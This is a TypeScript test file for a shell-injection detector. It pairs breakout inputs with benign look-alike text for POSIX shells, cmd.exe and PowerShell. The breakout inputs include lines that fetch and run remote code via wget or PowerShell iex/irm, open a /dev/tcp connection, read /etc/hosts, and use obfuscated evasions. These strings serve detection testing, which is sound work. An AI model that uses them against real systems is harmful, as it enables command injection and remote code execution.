// The shell grammar analysis on examples written from each technique (TECHNIQUES.md): values
// that break out into a command (POSIX shells, cmd.exe, PowerShell) and hard benign text that
// must stay quiet (prose with separators, code, documentation, file names, e-mail, non-Latin).
import { describe, expect, it } from "vitest";
import type { Input } from "../../payloads/inputs.ts";
import { shellFinding } from "./detectors.ts";

const input = (decoded: string, part = "q"): Input => ({ field: "url.original", part, raw: decoded, decoded });
const kind = (text: string) => shellFinding(input(text.toLowerCase()))?.kind ?? null;

describe("shell grammar: breakouts", () => {
  it.each([
    ["separator and tool", "report.pdf; uname -a", "chain"],
    ["and-list after a closed quote", "x' && wget http://198.51.100.7/k -O /tmp/k '", "chain"],
    ["pipe to a word-command at the end", "10.0.0.1 | id", "chain"],
    ["value that opens with a pipe", "| sleep 4", "chain"],
    ["newline", "a\nid", "chain"],
    ["unknown program with an option", "x;lsblk2 --all", "chain"],
    ["versioned interpreter", "1;python3.12 -V", "chain"],
    ["command substitution", "name$(hostname)", "substitution"],
    ["backticks glued to a word", "img`uname`.png", "substitution"],
    ["process substitution", "<(tac notes)", "substitution"],
    ["network redirection", "x;exec 3<>/dev/tcp/198.51.100.2/80", "substitution"],
    ["quotes inside a name", "a;w'ho'am\"i\"", "evasion"],
    ["backslash inside a name", "a|un\\ame", "evasion"],
    ["empty expansions inside a name", "a;ch$@mod$() 700 x", "evasion"],
    ["glob in a program path", "a;/u?r/b*n/wh?ami", "evasion"],
    ["IFS as the blank", "a;tac${IFS}/etc/hosts", "evasion"],
    ["PATH substrings spell a path", "a;${PATH:0:1}bin${PATH:0:1}uname", "evasion"],
    ["brace list", "a;{tac,/etc/hosts}", "evasion"],
    ["alias definition", "alias zz=nslookup", "evasion"],
    ["directory-stack tilde", "~+3", "evasion"],
    ["if with a command condition", "x; if true; then echo a; fi", "control"],
    ["for loop", "x; for f in a b; do tac $f; done", "control"],
    ["anonymous function (shellshock)", "() { :; }; echo hi", "control"],
    ["value that is a command line", "tac /etc/hosts", "leading"],
    ["interpreter told to run code", "ruby -e 'puts 1'", "leading"],
    ["cmd: caret escapes", "x & ta^sk^list /v", "windows"],
    ["cmd: COMSPEC", 'x" && %COMSPEC% /c ver', "windows"],
    ["cmd: substring of a variable", "x|%comspec:~-7,3% /c ver", "windows"],
    ["cmd: system32 path", "x&c:\\windows\\system32\\whoami.exe", "windows"],
    ["cmd: start wrapper", "x& start /b calc", "chain"],
    ["PowerShell: IEX", "x; iex (irm http://198.51.100.3/a)", "windows"],
    ["PowerShell: concatenated name", "x; & ('Invoke-Exp'+'ression') $a", "windows"],
    ["PowerShell: char casts", "x; &([char]105+[char]101+[char]120) $a", "windows"],
    ["PowerShell: backtick escapes", "x; in`vo`ke-webrequest -uri http://x", "windows"],
    ["PowerShell: encoded command", "a;pwsh -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A", "chain"],
  ])("%s", (_label, text, expected) => {
    expect(kind(text)).toBe(expected);
  });
});

describe("shell grammar: hard benign", () => {
  it.each([
    "cats & dogs",
    "R&D; sales",
    "a | b",
    "B&W photo; 35mm",
    "Ruby; Perl; Dash and Fish",
    "I was tired; more than usual; time flies",
    "O'Brien's order #1234 didn't arrive; can you check?",
    'He said "stop" and left; then we sang',
    "Use `ls -la` to check the folder, then select all",
    "```python\nimport os\nprint(os.getcwd())\n```",
    "#include <stdio.h>\nint main() { return 0; }",
    "function f() { return a && b || c; }",
    "$(document).ready(function() { init(); });",
    "const s = `Hello ${name}`;",
    "for i in range(10): print(i)",
    "if you can; then call me",
    "src/**/*.{js,ts}",
    "C:\\Users\\Public\\notes.txt",
    "jane.doe+tag@example.com",
    "https://example.com/a?b=c&d=e",
    "日本語のテキスト；そして",
    "Привет | мир & друзья",
    "Get-Content is a PowerShell cmdlet. Use it to read files.",
    "handler.Invoke(this, e);",
    "bash redirect stdout > to a file",
    "Sales | Marketing | Support",
    "Rock & roll; blues; jazz",
    "SELECT name FROM t WHERE a = 1; -- note",
    "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; xx-YY) AppleWebKit/534.28",
  ])("%s", (text) => {
    expect(kind(text)).toBeNull();
  });

  it("reads no leading command in a URL path", () => {
    expect(shellFinding(input("/usr/bin/tac /etc/hosts", "path"))).toBeNull();
  });
});
